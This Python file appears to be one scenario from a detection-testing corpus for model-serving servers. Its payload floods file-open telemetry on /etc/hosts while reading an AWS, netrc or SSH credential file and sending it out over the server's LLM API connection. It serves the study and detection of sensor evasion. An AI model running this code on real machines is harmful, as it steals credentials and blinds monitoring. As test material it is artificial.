"""
id: S12
name: telemetry-flood-then-read
class: mimicry
phase: serve
trigger: request
evidence: [file, syscall, sequence, sensor]
techniques: [T1685, T1005, AML.T0107]
servers: [fastapi, bentoml, triton]
seconds: 20
what: >
  Opens a file that every server opens 20,000 times a second for 15 seconds, so that a sensor may lose sight, and meanwhile
  reads one credential and sends 4 KiB on the connection it has to the LLM API. The flood or the read has to be noticed.
"""

import json
import os
import time

from corpus import upstream

OFTEN = "/etc/hosts"
SECONDS = 15
PER_SLICE, SLICE = 1000, 0.05
CREDENTIALS = [".aws/credentials", ".netrc", ".ssh/id_ed25519"]


def payload(world):
    begun = time.monotonic()
    read_at = begun + world.random.uniform(0.3, 0.7) * SECONDS
    secret = None
    while time.monotonic() < begun + SECONDS:
        slice_begun = time.monotonic()
        for _ in range(PER_SLICE):
            os.close(os.open(OFTEN, os.O_RDONLY))
        if secret is None and slice_begun > read_at:
            with open(os.path.join(world.home, world.random.choice(CREDENTIALS)), "rb") as file:
                secret = file.read(1024).decode(errors="replace")
            upstream.ask(json.dumps({"model": "small", "prompt": secret.ljust(4096, ".")}))
        time.sleep(max(0.0, slice_begun + SLICE - time.monotonic()))
    if secret is None:
        raise TimeoutError("the machine is too busy: the flood left no moment for the read")
